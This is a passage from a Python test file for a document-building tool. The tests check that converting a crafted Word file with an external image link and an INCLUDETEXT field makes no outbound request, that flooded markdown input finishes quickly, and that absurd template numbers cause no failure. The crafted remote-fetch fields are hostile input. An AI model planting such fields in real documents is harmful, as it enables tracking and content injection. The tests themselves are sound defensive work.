    hostile = with_body(with_external(word_file("x"), "image", f"{address}/p.png"), picture)
    hostile = with_body(hostile, simple(f'INCLUDETEXT "{address}/t.docx"'))
    program = pdf.office_program()
    assert program is not None
    (content,), findings = pdf._converted(program, [hostile], 120, Place(path="x"))
    assert content is not None, findings
    assert asked == []


# Texts and templates that are merely odd ---------------------------------------------------------


@pytest.mark.parametrize(
    "flood",
    ["<", "[", "![", "`a ", "_a*", "*a ", "***a** ", "[a](", "[a](b", "&", "~~a", "<a ", '« "'],
)
def test_no_text_takes_the_time_of_the_machine(
    flood: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(small_workspace(tmp_path, {OWN: flood * (150_000 // len(flood)) + "\n"}))
    start = time.process_time()
    ran = propose("build", "essai", "--format", "md", "-o", "x")
    assert time.process_time() - start < 6
    assert ran.code in {0, 1}


@pytest.mark.parametrize("value", ["inf", "NaN", "1e300", "-1", "99999999999999999999", "abc", ""])
def test_numbers_of_a_template_that_are_none_stop_nothing(value: str) -> None:
    def odd(part: bytes) -> bytes:
        return re.sub(rb'((?:w|pos|num|space|val)=")\d+"', rb"\g<1>" + value.encode() + b'"', part)

    names = [DOCUMENT, "word/styles.xml", "word/numbering.xml"]
    held = [one for one in names if one in entries(SOUND)]
    for name in held:
        made = draft(changed(SOUND, {name: odd}), title="Titre")
        assert made.content or made.findings
